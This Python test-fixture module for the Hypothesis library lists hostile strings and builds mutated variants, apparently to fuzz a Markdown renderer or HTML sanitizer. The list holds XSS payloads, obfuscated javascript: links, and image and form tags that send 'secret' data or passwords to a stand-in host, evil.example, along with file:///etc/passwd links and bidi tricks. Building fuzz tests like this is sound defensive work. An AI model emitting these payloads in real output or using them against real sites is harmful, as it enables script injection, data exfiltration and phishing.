"""Text that tries to become more than text."""

from hypothesis import strategies as st

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script\n>alert(1)</script\n>",
    "</code></pre></div><script>alert(1)</script>",
    "<img src=//evil.example/?q=secret>",
    "<img src=x onerror=alert(1)>",
    "![secret](https://evil.example/?q=secret)",
    "![secret](//evil.example/?q=secret 'title')",
    "![a][pic]\n\n[pic]: https://evil.example/?q=secret",
    "[![a](https://evil.example/b.png)](https://good.example)",
    "![data](data:image/png;base64,iVBORw0KGgo=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](\x01javascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "[click](/sign-out)",
    "[click](#top)",
    "[click](http:alert)",
    "[click](http://)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <data:text/html,x>",
    "<javascript:alert(1)>",
    "<https://good.example/?a=1&b=2>",
    "<someone@good.example>",
    '[a](http://x" onclick=alert(1))',
    '[a](<http://x" onclick="alert(1)>)',
    "[a](http://x 'y\" onclick=alert(1)')",
    "[a](http://x/%22onclick=alert(1)//)",
    "[a](http://x/\u202egnp.exe)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &amp;lt;b&amp;gt; &quot; &#0; &#x110000;",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1) id=x class=btn style=position:fixed>x</a>",
    "<!-- comment --> <?php evil() ?> <!DOCTYPE html> <![CDATA[x]]>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```py\"onclick='x'\ncode\n```",
    "```<img/src=x>\n</code></pre><script>alert(1)</script>\n```",
    "~~~a`b`c\n```\n~~~",
    "```python onclick=alert(1)\nx = '</span><script>'\n```",
    "    <script>alert(1)</script>",
    "| <b>a</b> | b |\n|:-:|-|\n| `<i>` | ![x](http://evil.example) |",
    "# <h1 onclick=x>",
    "1000000000. a\n999999999. b",
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x7f\x85\x9f",
    "\u202eevil\u202c \u2066iso\u2069 zero\u200bwidth \ufeff\u200f \U000e0041",
    "\ud83d lone \udc00 [x](http://\udc00)",
    "'\"><svg/onload=alert(1)>",
    "a" * 70_000,
    "word " * 14_000,
]


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """Hostile fragments cut short, joined, and with Markdown's own characters in between."""
    parts = []
    for fragment in draw(st.lists(st.sampled_from(HOSTILE[:-2]), min_size=1, max_size=5)):
        start, end = draw(st.integers(0, 12)), draw(st.integers(0, 90))
        parts.append(fragment[start : start + end])
        parts.append(draw(st.text("[]()<>!`*_~|\\\"'&#;:/ \n\t-=>\x00\u202e", max_size=4)))
    return "".join(parts)
